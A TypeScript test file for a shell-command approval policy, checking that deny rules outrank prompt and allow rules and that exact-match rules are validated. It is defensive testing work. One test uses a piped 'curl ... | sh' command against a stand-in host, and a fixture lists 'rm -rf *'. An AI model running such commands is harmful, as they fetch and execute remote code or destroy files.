import * as assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import type { PolicyRule, RuleLayer, ShellAnalyzer } from '../../../../src/core/contracts';
import { decide } from '../../../../src/core/policy/policy';
import { EXACT_MESSAGES, exactCommandText, parseExactWords } from '../../../../src/core/policy/rules/exactRule';
import { parsePolicyRules, RULE_MESSAGES } from '../../../../src/core/policy/rules/policyRulesSchema';
import { RULES_FILE_MESSAGES } from '../../../../src/core/policy/rules/ruleLayers';
import { createShellAnalyzer } from '../../../../src/core/policy/analysis/shellAnalysis';
import { readCliRuleLayers } from '../../../../src/cli/cliArgs';

/** The parsed `--no-builtin-rules --rules FILE` of a CLI call. */
const cliRules = (file: string) => ({ values: new Map([['--rules', [file]]]), flags: new Set(['--no-builtin-rules']) });

const WS = '/work/project';
const CTX = { cwd: WS, workspaceRoots: [WS] };
const layer = (name: RuleLayer['layer'], rules: PolicyRule[], source = `${name} settings`): RuleLayer => ({ layer: name, source, rules });

/** Every order of a list. */
function permutations<T>(items: readonly T[]): T[][] {
  if (items.length <= 1) return [[...items]];
  return items.flatMap((x, i) => permutations([...items.slice(0, i), ...items.slice(i + 1)]).map((rest) => [x, ...rest]));
}

describe('core/policy: deny beats prompt beats allow in any order (issue 31)', () => {
  let analyzer: ShellAnalyzer;
  before(async () => {
    analyzer = await createShellAnalyzer();
  });
  const run = (command: string, rules: RuleLayer[] | PolicyRule[]) => decide(analyzer.analyze(command), rules, CTX);

  it("the issue's case: `deny touch secret*` added after `allow touch *` in the same layer denies, and names both", () => {
    const user = layer('user', [{ match: 'touch *', approval: 'allow' }, { match: 'touch secret*', approval: 'deny' }]);
    const d = run('touch secret.txt', [user]);
    assert.equal(d.decision, 'deny');
    assert.deepEqual(d.rule, { match: 'touch secret*', approval: 'deny' });
    assert.equal(d.layer, 'user');
    assert.equal(d.reason, '`touch secret.txt` in segment 1 matched deny rule `touch secret*`');
    assert.deepEqual(d.restrictive, [{ rule: { match: 'touch secret*', approval: 'deny' }, layer: 'user', layerSource: 'user settings', text: 'touch secret.txt' }]);
    // The allow still allows what the deny does not catch.
    const ok = run('touch notes.txt', [user]);
    assert.equal(ok.decision, 'allow');
    assert.equal(ok.restrictive, undefined);
  });

  it('every order of three rules allow / prompt / deny matching the same command denies; allow and prompt ask', () => {
    const allow: PolicyRule = { match: 'git *', approval: 'allow' };
    const prompt: PolicyRule = { match: 'git push *', approval: 'prompt' };
    const deny: PolicyRule = { match: 'git push --force*', approval: 'deny' };
    const orders = permutations([allow, prompt, deny]);
    assert.equal(orders.length, 6);
    for (const rules of orders) {
      const d = run('git push --force origin main', [layer('user', rules)]);
      assert.equal(d.decision, 'deny', JSON.stringify(rules));
      assert.deepEqual(d.rule, deny);
      // Every deny and prompt that matched is named, the deny first.
      assert.deepEqual(d.restrictive?.map((m) => m.rule.match), ['git push --force*', 'git push *']);
      // A plain rule list (the CLI's one `--rules` file) is one layer too.
      assert.equal(run('git push --force origin main', rules).decision, 'deny');
      assert.equal(run('git push origin main', [layer('user', rules)]).decision, 'prompt');
      assert.equal(run('git status', [layer('user', rules)]).decision, 'allow');
    }
    for (const rules of permutations([allow, prompt])) {
      const d = run('git push origin main', [layer('workspace', rules)]);
      assert.equal(d.decision, 'prompt');
      assert.equal(d.kind, 'rule');
      assert.deepEqual(d.rule, prompt);
    }
  });

  it('a deny behind an allow in a later segment or in the whole line still wins', () => {
    const rules: PolicyRule[] = [{ match: '*', approval: 'allow' }, { match: 'curl *', approval: 'deny' }, { match: '*| sh', approval: 'prompt' }];
    const d = run('echo a && curl http://x.example | sh', rules);
    assert.equal(d.decision, 'deny');
    assert.equal(d.segmentIndex, 2);
    assert.deepEqual(d.restrictive?.map((m) => [m.rule.match, m.text]), [
      ['curl *', 'curl http://x.example'],
      ['*| sh', 'echo a && curl http://x.example | sh'],
    ]);
  });

  it('the CLI: one rules file with the allow first and the deny second denies `touch secret.txt`', () => {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'rules31-'));
    try {
      const file = path.join(dir, 'rules.json');
      fs.writeFileSync(file, JSON.stringify([{ match: 'touch *', approval: 'allow' }, { match: 'touch secret*', approval: 'deny' }]));
      const { layers } = readCliRuleLayers(cliRules(file), path.join(dir, 'none.json'));
      assert.equal(run('touch secret.txt', layers).decision, 'deny');
      assert.equal(run('touch other.txt', layers).decision, 'allow');
    } finally {
      fs.rmSync(dir, { recursive: true, force: true });
    }
  });
});

describe('core/policy: exact rules', () => {
  let analyzer: ShellAnalyzer;
  before(async () => {
    analyzer = await createShellAnalyzer();
  });
  const run = (command: string, rules: PolicyRule[]) => decide(analyzer.analyze(command), [layer('user', rules)], CTX);

  it('an exact rule allows its command and not the same line with one more argument', () => {
    const rules: PolicyRule[] = [{ match: 'touch newfile.txt', approval: 'allow', exact: true }];
    const d = run('touch newfile.txt', rules);
    assert.equal(d.decision, 'allow');
    assert.deepEqual(d.rule, rules[0]);
    for (const other of ['touch newfile.txt other.txt', 'touch newfile.txt newfile.txt', 'touch -c newfile.txt', 'touch newfile.txtx', 'touch', 'touch "newfile.txt "']) {
      assert.equal(run(other, rules).decision, 'prompt', other);
      assert.equal(run(other, rules).kind, 'default', other);
    }
    // Quoting as typed does not matter, word boundaries do.
    assert.equal(run("touch 'newfile.txt'", rules).decision, 'allow');
    assert.equal(run('echo a; touch newfile.txt', rules).decision, 'prompt');
  });

  it('word boundaries count: `rm "a b"` is not `rm a b`; metacharacters are literal', () => {
    const rules: PolicyRule[] = [{ match: "touch 'a b'", approval: 'allow', exact: true }, { match: 'echo "a*b"', approval: 'allow', exact: true }];
    assert.equal(run('touch "a b"', rules).decision, 'allow');
    assert.equal(run('touch a b', rules).decision, 'prompt');
    assert.equal(run("echo 'a*b'", rules).decision, 'allow');
    assert.equal(run('echo a*b', rules).decision, 'prompt');
    assert.equal(run("echo 'aXb'", rules).decision, 'prompt');
  });

  it('an exact rule never matches a word with an expansion, even one whose text is the same', () => {
    const rules: PolicyRule[] = [{ match: "echo '$HOME'", approval: 'allow', exact: true }];
    assert.equal(run("echo '$HOME'", rules).decision, 'allow');
    assert.equal(run('echo $HOME', rules).decision, 'prompt');
    assert.equal(run('echo "$HOME"', rules).decision, 'prompt');
  });

  it('an exact deny denies its command and loses to nothing; the same command with one more word is not denied by it', () => {
    const rules: PolicyRule[] = [{ match: '*', approval: 'allow' }, { match: 'git push origin main', approval: 'deny', exact: true }];
    assert.equal(run('git push origin main', rules).decision, 'deny');
    assert.equal(run('sudo git push origin main', [{ match: 'git push origin main', approval: 'deny', exact: true }]).decision, 'deny');
    assert.equal(run('git push origin main2', rules).decision, 'allow');
  });

  it('the canonical spelling quotes what is not a plain word', () => {
    assert.equal(exactCommandText(['touch', 'a b', "it's", '', 'x=1', '*']), "touch 'a b' 'it'\\''s' '' x=1 '*'");
  });

  it('the rules schema takes `exact` and says exactly what is wrong with one', () => {
    assert.deepEqual(parsePolicyRules([{ match: 'touch  x', approval: 'allow', exact: true }]), { ok: true, rules: [{ match: 'touch  x', approval: 'allow', exact: true }] });
    assert.deepEqual(parsePolicyRules([{ match: 'ls', approval: 'allow', exact: false }]), { ok: true, rules: [{ match: 'ls', approval: 'allow' }] });
    assert.deepEqual(parsePolicyRules([{ match: 'ls', approval: 'allow', exact: 'yes' }]), { ok: false, message: `[0].exact: ${RULE_MESSAGES.exact}` });
    assert.deepEqual(parsePolicyRules([{ match: 'touch *', approval: 'allow', exact: true }]), {
      ok: false,
      message: '[0].match: an exact match is one command\'s words without wildcards or shell syntax: quote `*` (at character 7) or drop "exact"',
    });
    assert.deepEqual(parsePolicyRules([{ match: "touch 'a", approval: 'allow', exact: true }]), { ok: false, message: `[0].match: ${EXACT_MESSAGES.unterminated('single')}` });
    assert.deepEqual(parsePolicyRules([{ match: 'echo "$x"', approval: 'allow', exact: true }]), { ok: false, message: `[0].match: ${EXACT_MESSAGES.special('$', 6)}` });
    assert.deepEqual(parsePolicyRules([{ match: 'a; b', approval: 'allow', exact: true }]), { ok: false, message: `[0].match: ${EXACT_MESSAGES.special(';', 1)}` });
    assert.deepEqual(parseExactWords(`cat ~/x`), { ok: false, message: EXACT_MESSAGES.special('~', 4) });
    assert.deepEqual(parseExactWords(`cat a~ "b\\"c" d\\ e`), { ok: true, words: ['cat', 'a~', 'b"c', 'd e'] });
  });

  it('the CLI rules file reports a bad exact rule with the file and the exact problem', () => {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'rules31-'));
    try {
      const file = path.join(dir, 'rules.json');
      fs.writeFileSync(file, JSON.stringify([{ match: 'ls', approval: 'allow' }, { match: 'rm -rf *', approval: 'allow', exact: true }]));
      assert.throws(
        () => readCliRuleLayers(cliRules(file), path.join(dir, 'none.json')),
        { message: RULES_FILE_MESSAGES.invalid(file, `[1].match: ${EXACT_MESSAGES.special('*', 7)}`) },
      );
      fs.writeFileSync(file, JSON.stringify([{ match: 'touch a.txt', approval: 'allow', exact: true }]));
      const { layers } = readCliRuleLayers(cliRules(file), path.join(dir, 'none.json'));
      assert.equal(decide(analyzer.analyze('touch a.txt'), layers, CTX).decision, 'allow');
      assert.equal(decide(analyzer.analyze('touch a.txt b.txt'), layers, CTX).decision, 'prompt');
    } finally {
      fs.rmSync(dir, { recursive: true, force: true });
    }
  });
});
